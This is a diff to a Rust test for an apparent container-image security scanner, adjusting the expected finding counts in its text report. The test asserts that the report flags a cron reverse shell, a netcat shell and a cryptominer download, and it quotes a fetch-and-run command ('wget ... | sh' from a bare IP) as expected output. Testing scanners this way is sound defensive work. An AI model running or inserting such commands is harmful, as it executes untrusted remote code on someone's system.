@@ -115,7 +115,7 @@ fn text_groups_findings_by_severity_with_place_layer_and_state_and_redacts_secre
     // published examples (confidence low): counted apart and listed last.
     // Critical: the cron reverse shell, the netcat shell, and start.sh fetching xmrig from a bare
     // IP (high, one step up because the entrypoint runs it).
-    assert!(text.contains("    findings: 3 critical, 6 high, 3 medium, 1 low; 4 more at low confidence (1 medium, 3 low)\n"), "{text}");
+    assert!(text.contains("    findings: 3 critical, 6 high, 4 medium, 1 low; 4 more at low confidence (1 medium, 3 low)\n"), "{text}");
     assert!(text.contains("    AT LOW CONFIDENCE (4)\n      medium secrets:database-url-password"), "{text}");
     assert!(text.contains("    CRITICAL (3)\n      layerhound:reverse_shell_dev_tcp [high confidence]"), "{text}");
     assert!(text.contains("        /etc/cron.d/backup (layer 4, present)\n"), "{text}");
@@ -123,7 +123,7 @@ fn text_groups_findings_by_severity_with_place_layer_and_state_and_redacts_secre
     assert!(text.contains("wget -qO- http://203.0.113.7/i.sh | sh"), "layers with created_by: {text}");
     assert!(!text.contains("wJalrXUtnFEMI") && !text.contains("ghp_FAKEexample"), "secrets are redacted: {text}");
     assert!(!text.contains('\x1b'), "no colour in a file");
-    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 53 findings, 0 errors; complete\n"), "{text}");
+    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 54 findings, 0 errors; complete\n"), "{text}");
 }
 
 #[test]
